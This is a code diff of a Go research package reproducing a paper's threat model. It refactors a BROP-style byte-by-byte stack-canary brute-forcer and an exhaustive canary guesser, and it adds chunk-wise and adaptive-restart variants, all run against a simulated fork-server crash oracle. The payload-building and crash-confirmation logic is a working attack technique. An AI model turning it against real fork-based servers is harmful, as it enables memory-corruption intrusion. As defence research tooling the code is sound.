@@ -1,23 +1,71 @@
 // Package attack implements the adversaries of the paper's threat model:
-// the byte-by-byte (BROP-style) canary brute-forcer of Section II-B and the
-// exhaustive-search attacker of Section III-C, both driven against a live
-// crash oracle (a fork-per-request server running real compiled code in the
-// VM).
+// the byte-by-byte (BROP-style) canary brute-forcer of Section II-B, the
+// exhaustive-search attacker of Section III-C, and a family of variant
+// adversaries (chunk-wise guessing, uniform random sampling, an adaptive
+// restart-on-detection attacker), all driven against a live crash oracle (a
+// fork-per-request server running real compiled code in the VM).
 //
 // The attacker fits the paper's adversary model: it chooses inputs and
 // observes crash/no-crash behaviour, but has no direct memory read or write.
+// Each adversary is a Strategy; see the registry in strategy.go and the
+// campaign engine in internal/campaign that replicates strategies at scale.
 package attack
 
 import (
+	"context"
 	"encoding/binary"
+	"errors"
 	"fmt"
 
 	"repro/internal/kernel"
 )
 
 // Oracle answers one attack trial: did the worker survive the payload?
+//
+// Implementations must report their own infrastructure failures (transport,
+// fork, kernel errors) wrapped as an *OracleError — see WrapOracleErr — so
+// callers can distinguish "the trial ran and the worker died" (survived ==
+// false, err == nil) from "the trial never ran" (err != nil). Context
+// cancellation is returned unwrapped.
 type Oracle interface {
 	Try(payload []byte) (survived bool, err error)
+}
+
+// OracleError marks an infrastructure failure of the crash oracle itself —
+// the trial never reached the victim, so it carries no information about
+// the canary and must not be accounted as an attack trial. Campaigns count
+// these separately instead of folding them into trial statistics.
+type OracleError struct {
+	// Err is the underlying transport/kernel failure.
+	Err error
+}
+
+// Error implements error.
+func (e *OracleError) Error() string { return "attack: oracle failure: " + e.Err.Error() }
+
+// Unwrap exposes the underlying failure to errors.Is/As.
+func (e *OracleError) Unwrap() error { return e.Err }
+
+// WrapOracleErr classifies an error for Oracle implementations: nil and
+// context cancellation pass through untouched (a cancelled trial is the
+// caller's doing, not an oracle fault); everything else is wrapped as an
+// *OracleError. Already-wrapped errors are returned as-is.
+func WrapOracleErr(err error) error {
+	if err == nil || errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
+		return err
+	}
+	var oe *OracleError
+	if errors.As(err, &oe) {
+		return err
+	}
+	return &OracleError{Err: err}
+}
+
+// IsOracleErr reports whether err stems from oracle infrastructure rather
+// than from the attack logic or its cancellation.
+func IsOracleErr(err error) bool {
+	var oe *OracleError
+	return errors.As(err, &oe)
 }
 
 // ServerOracle adapts a fork server into an Oracle.
@@ -25,11 +73,12 @@ type ServerOracle struct {
 	Srv *kernel.ForkServer
 }
 
-// Try implements Oracle.
+// Try implements Oracle. Transport errors are classified as *OracleError,
+// distinct from attack outcomes.
 func (o *ServerOracle) Try(payload []byte) (bool, error) {
 	out, err := o.Srv.Handle(payload)
 	if err != nil {
-		return false, err
+		return false, WrapOracleErr(err)
 	}
 	return !out.Crashed, nil
 }
@@ -61,16 +110,24 @@ func (c *Config) setDefaults() {
 
 // Result reports an attack run.
 type Result struct {
+	// Strategy names the adversary model that produced the result.
+	Strategy string
 	// Success is true when every canary byte was confirmed.
 	Success bool
 	// Canary is the recovered canary (complete only on success).
 	Canary []byte
 	// Trials is the total number of oracle queries.
 	Trials int
-	// PerByte is the number of trials spent on each recovered byte.
+	// PerByte is the number of trials spent on each recovered position
+	// (one entry per chunk for chunk-wise strategies).
 	PerByte []int
-	// FailedAt is the byte position the attack gave up on (-1 on success).
+	// FailedAt is the byte position a positional attack gave up on; -1 on
+	// success and for non-positional (full-word) strategies, where no byte
+	// position applies.
 	FailedAt int
+	// Restarts counts full from-scratch restarts taken by adaptive
+	// strategies after a detected re-randomization.
+	Restarts int
 }
 
 // RecoveredWord returns the canary as a little-endian word (zero-extended).
@@ -80,31 +137,67 @@ func (r Result) RecoveredWord() uint64 {
 	return binary.LittleEndian.Uint64(b[:])
 }
 
-// ByteByByte runs the attack of Section II-B: guess the canary one byte at a
-// time from the lowest address, using worker survival as confirmation. On a
-// shared static canary (SSP over fork) the attacker's knowledge accumulates
-// and the expected cost is 8 × 2^7 = 1024 trials; against polymorphic
-// canaries each fork invalidates previous confirmations and the attack stalls.
-func ByteByByte(o Oracle, cfg Config) (Result, error) {
+// positionalSearch is the shared engine behind the positional strategies:
+// recover the canary chunk by chunk of chunk bytes (1 = the paper's
+// byte-by-byte), enumerating each chunk's value space in a cyclic order
+// from start(pos), using worker survival as confirmation. On a position
+// where every value crashes — the signature of a polymorphic canary that
+// re-randomized under the attacker — restart selects the response: give up
+// (the paper's "advantage is not accumulated" analysis) or drop all
+// accumulated knowledge and start over (the adaptive attacker), bounded by
+// MaxTrials either way.
+func positionalSearch(ctx context.Context, o Oracle, cfg Config, chunk int, start func(pos int) uint64, restart bool) (Result, error) {
 	cfg.setDefaults()
-	res := Result{FailedAt: -1, PerByte: make([]int, 0, cfg.CanaryLen)}
+	if chunk < 1 {
+		chunk = 1
+	}
+	res := Result{FailedAt: -1, PerByte: make([]int, 0, (cfg.CanaryLen+chunk-1)/chunk)}
 	known := make([]byte, 0, cfg.CanaryLen)
 
-	for pos := 0; pos < cfg.CanaryLen; pos++ {
+	for pos := 0; len(known) < cfg.CanaryLen; pos++ {
+		width := chunk
+		if rem := cfg.CanaryLen - len(known); width > rem {
+			width = rem
+		}
+		// space is the chunk's value count; 0 encodes the full 2^64 space
+		// of an 8-byte chunk (the shift wraps), where modular arithmetic
+		// is the native uint64 wraparound.
+		var space uint64
+		if width < 8 {
+			space = uint64(1) << (8 * width)
+		}
+		first := uint64(0)
+		if start != nil {
+			first = start(pos)
+			if space != 0 {
+				first %= space
+			}
+		}
 		tried := 0
 		found := false
-		for guess := 0; guess < 256; guess++ {
+		for i := uint64(0); i < space || space == 0; i++ {
 			if res.Trials >= cfg.MaxTrials {
-				res.FailedAt = pos
+				res.FailedAt = len(known)
 				res.PerByte = append(res.PerByte, tried)
+				res.Canary = known
 				return res, nil
 			}
-			payload := make([]byte, 0, cfg.BufLen+pos+1)
-			for i := 0; i < cfg.BufLen; i++ {
+			if err := ctx.Err(); err != nil {
+				res.Canary = known
+				return res, err
+			}
+			guess := first + i
+			if space != 0 {
+				guess %= space
+			}
+			payload := make([]byte, 0, cfg.BufLen+len(known)+width)
+			for j := 0; j < cfg.BufLen; j++ {
 				payload = append(payload, cfg.Filler)
 			}
 			payload = append(payload, known...)
-			payload = append(payload, byte(guess))
+			for j := 0; j < width; j++ {
+				payload = append(payload, byte(guess>>(8*j)))
+			}
 
 			res.Trials++
 			tried++
@@ -113,18 +206,25 @@ func ByteByByte(o Oracle, cfg Config) (Result, error) {
 				return res, fmt.Errorf("attack: trial %d: %w", res.Trials, err)
 			}
 			if survived {
-				known = append(known, byte(guess))
+				for j := 0; j < width; j++ {
+					known = append(known, byte(guess>>(8*j)))
+				}
 				found = true
 				break
 			}
 		}
 		res.PerByte = append(res.PerByte, tried)
 		if !found {
-			// All 256 values crashed: the canary changed under us —
-			// polymorphic defence. Restart this byte from scratch would be
-			// the attacker's only option; we account it as a failure of the
-			// position (the paper's "advantage is not accumulated").
-			res.FailedAt = pos
+			// All values of the position crashed: the canary changed under
+			// us — polymorphic defence detected.
+			if restart && res.Trials < cfg.MaxTrials {
+				res.Restarts++
+				known = known[:0]
+				res.PerByte = res.PerByte[:0]
+				pos = -1
+				continue
+			}
+			res.FailedAt = len(known)
 			res.Canary = known
 			return res, nil
 		}
@@ -134,20 +234,42 @@ func ByteByByte(o Oracle, cfg Config) (Result, error) {
 	return res, nil
 }
 
-// Exhaustive runs the primitive attack of Section III-C-1: independent
-// uniformly random guesses of the full canary word. nextGuess supplies the
-// guesses (letting experiments seed it deterministically).
-func Exhaustive(o Oracle, cfg Config, nextGuess func() uint64) (Result, error) {
+// ByteByByte runs the attack of Section II-B: guess the canary one byte at a
+// time from the lowest address, using worker survival as confirmation. On a
+// shared static canary (SSP over fork) the attacker's knowledge accumulates
+// and the expected cost is 8 × 2^7 = 1024 trials; against polymorphic
+// canaries each fork invalidates previous confirmations and the attack stalls.
+func ByteByByte(o Oracle, cfg Config) (Result, error) {
+	res, err := positionalSearch(context.Background(), o, cfg, 1, nil, false)
+	res.Strategy = "byte-by-byte"
+	return res, err
+}
+
+// wordSearch guesses full canary words supplied by next until one survives
+// or the budget runs out. The guess covers min(CanaryLen, 8) bytes — one
+// machine word — so a narrow canary is searched over its own value space;
+// a canary wider than a word leaves the upper bytes untouched on the stack
+// (physically a shorter overflow), which is the best a single-word guesser
+// can do.
+func wordSearch(ctx context.Context, o Oracle, cfg Config, next func() uint64) (Result, error) {
 	cfg.setDefaults()
-	var res Result
-	res.FailedAt = 0
+	width := cfg.CanaryLen
+	if width > 8 {
+		width = 8
+	}
+	res := Result{FailedAt: -1} // no byte position applies to full-word search
 	for res.Trials < cfg.MaxTrials {
-		guess := nextGuess()
-		payload := make([]byte, cfg.BufLen+cfg.CanaryLen)
+		if err := ctx.Err(); err != nil {
+			return res, err
+		}
+		guess := next()
+		payload := make([]byte, cfg.BufLen+width)
 		for i := 0; i < cfg.BufLen; i++ {
 			payload[i] = cfg.Filler
 		}
-		binary.LittleEndian.PutUint64(payload[cfg.BufLen:], guess)
+		for j := 0; j < width; j++ {
+			payload[cfg.BufLen+j] = byte(guess >> (8 * j))
+		}
 
 		res.Trials++
 		survived, err := o.Try(payload)
@@ -156,12 +278,20 @@ func Exhaustive(o Oracle, cfg Config, nextGuess func() uint64) (Result, error) {
 		}
 		if survived {
 			res.Success = true
-			res.FailedAt = -1
 			res.Canary = payload[cfg.BufLen:]
 			return res, nil
 		}
 	}
 	return res, nil
+}
+
+// Exhaustive runs the primitive attack of Section III-C-1: independent
+// guesses of the full canary word. nextGuess supplies the guesses (letting
+// experiments seed it deterministically).
+func Exhaustive(o Oracle, cfg Config, nextGuess func() uint64) (Result, error) {
+	res, err := wordSearch(context.Background(), o, cfg, nextGuess)
+	res.Strategy = "exhaustive"
+	return res, err
 }
 
 // PairPayload builds the informed P-SSP overwrite of Section III-C-1: an
